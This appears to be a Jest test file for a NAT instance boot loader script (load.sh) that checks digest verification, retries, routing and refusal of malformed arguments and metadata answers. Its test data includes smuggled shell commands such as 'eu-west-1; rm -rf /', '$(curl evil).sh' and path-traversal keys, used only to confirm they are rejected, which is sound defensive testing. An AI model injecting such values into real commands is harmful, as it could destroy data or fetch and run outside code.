import { spawnSync } from 'child_process';
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { MARKER, WRONG_FORMS, hostileValues, printableLines } from './fakes/hostile';

/**
 * load.sh, the loader the user data embeds, against fakes of the instance metadata service and
 * the AWS CLI (test/fakes/fake-command.sh): the asset bucket is a folder, and the bootstrap it
 * hands over to is a stand-in that records how it was called.
 */
const script = path.join(__dirname, '..', 'assets', 'boot', 'load.sh');
const fake = path.join(__dirname, 'fakes', 'fake-command.sh');
const BUCKET = 'cdk-hnb659fds-assets-111122223333-eu-west-1';
const SELF = 'i-05e1f0000000000a';
const MAC = '0a:00:00:00:00:06';
const CONFIGURE = '#!/usr/bin/env bash\necho configure\n';
const sha = (text: string) => crypto.createHash('sha256').update(text).digest('hex');
const keyOf = (text: string) => `${sha(text)}.sh`;

interface Run { status: number | null; stderr: string; calls: string[]; installed: string[]; handedOver?: string }

function makeHost() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'nat-load-'));
  const bin = path.join(dir, 'bin');
  const state = path.join(dir, 'state');
  const install = path.join(dir, 'opt');
  const sys = path.join(dir, 'sys');
  fs.mkdirSync(bin, { recursive: true });
  fs.mkdirSync(install, { recursive: true });
  fs.mkdirSync(path.join(state, 's3', BUCKET), { recursive: true });
  for (const dev of ['ens5', 'ens6']) {
    fs.mkdirSync(path.join(sys, dev), { recursive: true });
  }
  fs.writeFileSync(path.join(sys, 'ens5', 'address'), '0a:00:00:00:00:05\n');
  fs.writeFileSync(path.join(sys, 'ens6', 'address'), `${MAC}\n`);
  // The controller has attached the static interface at launch.
  fs.writeFileSync(path.join(state, 'eni'), `in-use ${SELF} eni-attach-1 ${MAC} False\n`);
  for (const name of ['curl', 'aws', 'sleep', 'ip', 'networkctl']) {
    fs.symlinkSync(fake, path.join(bin, name));
  }
  // The library the user data writes beside the loader, as shipped.
  const lib = () => fs.copyFileSync(path.join(__dirname, '..', 'assets', 'boot', 'nat-lib.sh'), path.join(install, 'nat-lib.sh'));
  const record = path.join(dir, 'handed-over');
  // Stands in for nat-bootstrap.sh: records its arguments.
  const bootstrap = `#!/usr/bin/env bash\nprintf '%s\\n' "$*" > '${record}'\n`;
  const put = (text: string) => fs.writeFileSync(path.join(state, 's3', BUCKET, keyOf(text)), text);
  put(CONFIGURE);
  put(bootstrap);
  const args = (overrides: { configureSha?: string; bootstrapKey?: string } = {}) => [
    '--region', 'eu-west-1', '--stack-name', 'NatStack', '--resource', 'NatAsg1234', '--eni-id', 'eni-0123456789abcdef0',
    '--fetch', 'configure-nat.sh', BUCKET, keyOf(CONFIGURE), overrides.configureSha ?? sha(CONFIGURE),
    '--fetch', 'nat-bootstrap.sh', BUCKET, overrides.bootstrapKey ?? keyOf(bootstrap), sha(bootstrap),
    '--', '--vpc-cidr', '10.0.0.0/16',
  ];
  const log = path.join(dir, 'calls.log');
  /** Runs load.sh; `imds` replaces instance metadata answers (by path after meta-data/) for this run. */
  const run = (argv: string[], options: { env?: Record<string, string>; imds?: Record<string, string> } = {}): Run => {
    fs.writeFileSync(log, '');
    fs.rmSync(record, { force: true });
    fs.rmSync(path.join(state, 'routes'), { force: true });
    fs.rmSync(path.join(state, 'imds'), { recursive: true, force: true });
    fs.mkdirSync(path.join(state, 'imds'));
    for (const [metadataPath, answer] of Object.entries(options.imds ?? {})) {
      fs.writeFileSync(path.join(state, 'imds', metadataPath.replace(/\//g, '_')), answer);
    }
    fs.mkdirSync(install, { recursive: true });
    lib();
    const env = {
      PATH: `${bin}:/usr/bin:/bin`, FAKE_LOG: log, FAKE_STATE: state,
      NAT_IMDS_ENDPOINT: 'http://imds.invalid', NAT_INSTALL_DIR: install, NAT_RETRY_ATTEMPTS: '3', TMPDIR: dir,
      NAT_SYS_CLASS_NET: sys, NAT_NETWORKD_DIR: path.join(dir, 'networkd'), NAT_WAIT_SECONDS: '3', NAT_ENI_WAIT_SECONDS: '3',
      ...options.env,
    };
    // In the host's directory: a command a hostile value smuggled in would touch MARKER there.
    const result = spawnSync('bash', [script, ...argv], { env, cwd: dir, encoding: 'utf8', timeout: 30_000 });
    return {
      status: result.status,
      stderr: result.stderr,
      calls: fs.readFileSync(log, 'utf8').split('\n').filter(Boolean),
      installed: fs.existsSync(install) ? fs.readdirSync(install).filter((f) => f !== 'nat-lib.sh').sort() : [],
      handedOver: fs.existsSync(record) ? fs.readFileSync(record, 'utf8').trim() : undefined,
    };
  };
  return { dir, state, install, bootstrap, args, run, put };
}

const FAILURE = `aws --region eu-west-1 cloudformation signal-resource --stack-name NatStack --logical-resource-id NatAsg1234 --unique-id ${SELF} --status FAILURE`;

describe('load.sh', () => {
  const host = makeHost();
  afterAll(() => fs.rmSync(host.dir, { recursive: true, force: true }));

  describe('--before-interface (the connection-state handoff)', () => {
    const before = () => {
      const argv = host.args();
      return [...argv.slice(0, argv.indexOf('--')), '--before-interface', ...argv.slice(argv.indexOf('--'))];
    };
    afterEach(() => {
      fs.writeFileSync(path.join(host.state, 'eni'), `in-use ${SELF} eni-attach-1 ${MAC} False\n`);
    });

    test('fetches and hands over while the interface is still with the old NAT', () => {
      fs.writeFileSync(path.join(host.state, 'eni'), `in-use i-0old0000000000000 eni-attach-0 ${MAC} False\n`);
      const result = host.run(before());
      expect(result).toMatchObject({ status: 0, installed: ['configure-nat.sh', 'nat-bootstrap.sh'] });
      expect(result.handedOver).toBe('setup --stack-name NatStack --resource NatAsg1234 --eni-id eni-0123456789abcdef0 --vpc-cidr 10.0.0.0/16');
      // No wait for the interface, no route through it: the bootstrap takes the state first.
      expect(result.calls.filter((c) => c.startsWith('ip route replace') || c.includes('/network/interfaces/macs/'))).toEqual([]);
    });

    test('a fetch that fails before the interface (no S3 endpoint) waits for it and fetches again', () => {
      fs.writeFileSync(path.join(host.state, 's3-needs-route'), '');
      try {
        const result = host.run(before());
        expect(result).toMatchObject({ status: 0, installed: ['configure-nat.sh', 'nat-bootstrap.sh'] });
        expect(result.stderr).toContain('load.sh: cannot fetch the scripts before the interface arrives; waiting for it');
        const route = result.calls.indexOf('ip route replace default via 10.0.0.1 dev ens6 metric 10');
        expect(route).toBeGreaterThan(0);
        // Tried before the route (twice, the one retry allowed), then again after it.
        expect(result.calls.slice(0, route).filter((c) => c.includes(' s3 cp '))).toHaveLength(2);
        expect(result.calls.slice(route).filter((c) => c.includes(' s3 cp '))).toHaveLength(2);
        expect(result.handedOver).toMatch(/^setup /);
      } finally {
        fs.rmSync(path.join(host.state, 's3-needs-route'), { force: true });
      }
    });
  });

  test('fetches both scripts, checks their SHA-256, installs them and hands over to the bootstrap\'s setup', () => {
    const result = host.run(host.args());
    expect({ status: result.status, stderr: result.stderr }).toMatchObject({ status: 0 });
    const awsCalls = result.calls.filter((c) => c.startsWith('aws '));
    expect(awsCalls).toHaveLength(2);
    expect(awsCalls[0]).toMatch(new RegExp(`^aws --region eu-west-1 s3 cp --only-show-errors s3://${BUCKET}/${keyOf(CONFIGURE)} \\S+/configure-nat\\.sh$`));
    expect(awsCalls[1]).toMatch(new RegExp(`^aws --region eu-west-1 s3 cp --only-show-errors s3://${BUCKET}/${keyOf(host.bootstrap)} \\S+/nat-bootstrap\\.sh$`));
    expect(result.installed).toEqual(['configure-nat.sh', 'nat-bootstrap.sh']);
    expect(fs.readFileSync(path.join(host.install, 'configure-nat.sh'), 'utf8')).toBe(CONFIGURE);
    expect(fs.statSync(path.join(host.install, 'configure-nat.sh')).mode & 0o777).toBe(0o755);
    expect(result.handedOver).toBe('setup --stack-name NatStack --resource NatAsg1234 --eni-id eni-0123456789abcdef0 --vpc-cidr 10.0.0.0/16');
    // The instance has no address of its own: egress goes through the static interface before the first fetch.
    const route = result.calls.indexOf('ip route replace default via 10.0.0.1 dev ens6 metric 10');
    expect(route).toBeGreaterThanOrEqual(0);
    expect(route).toBeLessThan(result.calls.findIndex((c) => c.includes(' s3 cp ')));
    expect(result.stderr).toContain('load.sh: egress through ens6 (eni-0123456789abcdef0)');
    expect(result.stderr).toContain(`load.sh: installed configure-nat.sh (${sha(CONFIGURE)})`);
  });

  test('a script whose digest is not the one in the user data is refused: not installed, not run, the deployment fails', () => {
    fs.rmSync(host.install, { recursive: true, force: true });
    const tampered = sha('something else');
    const result = host.run(host.args({ configureSha: tampered }));
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(`load.sh: error: configure-nat.sh from s3://${BUCKET}/${keyOf(CONFIGURE)} has SHA-256 ${sha(CONFIGURE)}, not ${tampered}; refusing to run it`);
    expect(result.installed).toEqual([]);
    expect(result.handedOver).toBeUndefined();
    expect(result.calls.filter((c) => c.startsWith('aws ')).pop()).toBe(FAILURE);
    // Nothing of the unverified download is left in the temporary directory either.
    expect(fs.readdirSync(host.dir).filter((f) => f.startsWith('tmp.'))).toEqual([]);
  });

  test('an object that cannot be fetched is retried, then fails the deployment loudly', () => {
    fs.rmSync(host.install, { recursive: true, force: true });
    const result = host.run(host.args({ bootstrapKey: `${'0'.repeat(64)}.sh` }));
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(`load.sh: error: cannot fetch nat-bootstrap.sh from s3://${BUCKET}/${'0'.repeat(64)}.sh`);
    expect(result.calls.filter((c) => c.includes(`s3 cp --only-show-errors s3://${BUCKET}/${'0'.repeat(64)}.sh`))).toHaveLength(3);
    expect(result.handedOver).toBeUndefined();
    expect(result.calls.filter((c) => c.startsWith('aws ')).pop()).toBe(FAILURE);
  });

  const hostile: Array<[string, (args: string[]) => string[], string]> = [
    ['a region with a command after it', (a) => replaceAt(a, 1, 'eu-west-1; rm -rf /'), "--region: got 'eu-west-1; rm -rf /'; expected an AWS region"],
    ['a region with a newline', (a) => replaceAt(a, 1, 'eu-west-1\nreboot'), '--region: got'],
    ['a stack name with a command substitution', (a) => replaceAt(a, 3, 'Nat$(reboot)'), "--stack-name: got 'Nat$(reboot)'; expected a CloudFormation stack name"],
    ['a stack name with spaces', (a) => replaceAt(a, 3, 'Nat Stack'), "--stack-name: got 'Nat Stack'"],
    ['a resource ID with a backtick', (a) => replaceAt(a, 5, 'Nat`id`'), "--resource: got 'Nat`id`'; expected a logical resource ID"],
    ['a script name that is a path', (a) => replaceAt(a, 9, '../../etc/profile.sh'), "--fetch FILE: got '../../etc/profile.sh'; expected a script name"],
    ['a bucket with a space', (a) => replaceAt(a, 10, 'my bucket'), "--fetch BUCKET: got 'my bucket'; expected an S3 bucket name"],
    ['a key that climbs out', (a) => replaceAt(a, 11, 'assets/../../secret.sh'), "--fetch KEY: got 'assets/../../secret.sh'; expected an S3 object key of words joined by ._/-"],
    ['a key with a command substitution', (a) => replaceAt(a, 11, '$(curl evil).sh'), "--fetch KEY: got '$(curl evil).sh'"],
    ['a digest in capitals', (a) => replaceAt(a, 12, sha(CONFIGURE).toUpperCase()), '--fetch SHA256: got'],
    ['a short digest', (a) => replaceAt(a, 12, 'abc123'), "--fetch SHA256: got 'abc123'; expected a SHA-256 digest"],
    ['a very long key', (a) => replaceAt(a, 11, `${'k'.repeat(5000)}.sh`), `--fetch KEY: got '${'k'.repeat(80)}'`],
    ['an unknown option', (a) => ['--execute', 'reboot', ...a], "unknown argument '--execute'"],
    ['no --fetch at all', (a) => a.slice(0, 8), 'at least one --fetch is required'],
    ['a --fetch cut short', () => ['--region', 'eu-west-1', '--stack-name', 'S', '--resource', 'R', '--fetch', 'configure-nat.sh', BUCKET], '--fetch needs FILE BUCKET KEY SHA256'],
    ['an interface ID with a command', (a) => replaceAt(a, 7, 'eni-0123$(reboot)'), "--eni-id: got 'eni-0123$(reboot)'; expected a network interface ID"],
    ['no interface ID', (a) => [...a.slice(0, 6), ...a.slice(8)], '--eni-id is required'],
  ];
  test.each(hostile)('refuses %s before it runs anything', (_name, mutate, message) => {
    fs.rmSync(host.install, { recursive: true, force: true });
    const result = host.run(mutate(host.args()));
    expect(result.status).toBe(1);
    expect(result.stderr).toContain(`load.sh: error: ${message}`);
    expect(result.calls).toEqual([]);
    expect(result.installed).toEqual([]);
  });
});

/** Each option of load.sh: its name in messages, its place in host.args(), and values of a wrong form for it alone. */
const OPTIONS: Array<[name: string, index: number, wrongForms: string[]]> = [
  ['--region', 1, WRONG_FORMS.region],
  ['--stack-name', 3, WRONG_FORMS.stack],
  ['--resource', 5, WRONG_FORMS.resource],
  ['--eni-id', 7, WRONG_FORMS.eni],
  ['--fetch FILE', 9, ['configure_nat.sh', 'Configure-nat.sh', '.sh', 'configure-nat', '/tmp/x.sh']],
  ['--fetch BUCKET', 10, ['ab', 'My-Bucket', '-bucket', 'bucket-', 'b'.repeat(64)]],
  ['--fetch KEY', 11, ['a..b.sh', '/abs.sh', 'a//b.sh', '../x.sh', '.sh']],
  ['--fetch SHA256', 12, [sha(CONFIGURE).toUpperCase(), 'abc123', `${sha(CONFIGURE)}0`]],
];

describe('load.sh against hostile values', () => {
  const host = makeHost();
  const valid = host.args();
  afterAll(() => fs.rmSync(host.dir, { recursive: true, force: true }));
  afterEach(() => {
    expect(fs.existsSync(path.join(host.dir, MARKER))).toBe(false);
    fs.rmSync(host.install, { recursive: true, force: true });
  });

  const hostile = OPTIONS.flatMap(([name, index, wrongForms]) =>
    hostileValues(valid[index], wrongForms).map(([what, value]) => ({ name, index, what, value })));

  describe(`refuses each of ${hostile.length} hostile option values before it runs anything`, () => {
    test.each(hostile)('$name with $what', ({ name, index, value }) => {
      const result = host.run(replaceAt(valid, index, value), { env: { LC_ALL: 'C.UTF-8' } });
      expect(result.status).toBe(1);
      // One printable line, naming the option.
      expect(result.stderr.split('\n').filter(Boolean)).toEqual([expect.stringMatching(new RegExp(`^load\\.sh: error: ${escape(name)}: got '`))]);
      expect(printableLines(result.stderr)).toBe(true);
      expect(result.calls).toEqual([]);
      expect(result.installed).toEqual([]);
      expect(result.handedOver).toBeUndefined();
    });
  });

  const SUBNET = `network/interfaces/macs/${MAC}/subnet-ipv4-cidr-block`;
  const subnets = hostileValues('10.0.0.0/24', WRONG_FORMS.subnet);
  describe(`checks each of ${subnets.length} hostile subnet answers of instance metadata before it computes the router`, () => {
    test.each(subnets)('%s', (_what, answer) => {
      const result = host.run(valid, { imds: { [SUBNET]: answer }, env: { LC_ALL: 'C.UTF-8' } });
      expect(result.status).toBe(1);
      expect(result.stderr).toContain(`load.sh: error: instance metadata subnet-ipv4-cidr-block of ${MAC}: got '`);
      expect(printableLines(result.stderr)).toBe(true);
      expect(result.calls.filter((c) => /^ip route replace| s3 cp /.test(c))).toEqual([]);
      expect(result.calls.filter((c) => c.startsWith('aws ')).pop()).toBe(FAILURE);
      expect(result.installed).toEqual([]);
    });
  });

  const interfaceIds = hostileValues('eni-0123456789abcdef0', WRONG_FORMS.eni);
  describe(`takes each of ${interfaceIds.length} hostile interface-id answers of instance metadata for another interface`, () => {
    test.each(interfaceIds)('%s', (_what, answer) => {
      const result = host.run(valid, { imds: { [`network/interfaces/macs/${MAC}/interface-id`]: answer }, env: { NAT_ENI_WAIT_SECONDS: '0' } });
      expect(result.status).toBe(1);
      expect(result.stderr).toContain('load.sh: error: eni-0123456789abcdef0 is not attached to this instance after 0s');
      expect(result.calls.filter((c) => /^ip route replace| s3 cp /.test(c))).toEqual([]);
      expect(result.calls.filter((c) => c.startsWith('aws ')).pop()).toBe(FAILURE);
    });
  });

  const instanceIds = hostileValues(SELF, WRONG_FORMS.instance);
  describe(`signals failure for no instance rather than for each of ${instanceIds.length} hostile instance-id answers`, () => {
    test.each(instanceIds)('%s', (_what, answer) => {
      const result = host.run(host.args({ configureSha: sha('something else') }), { imds: { 'instance-id': answer } });
      expect(result.status).toBe(1);
      expect(result.calls.filter((c) => c.startsWith('aws ')).pop()).toBe(FAILURE.replace(SELF, 'unknown-instance'));
    });
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

function replaceAt(args: string[], index: number, value: string): string[] {
  return args.map((a, i) => (i === index ? value : a));
}
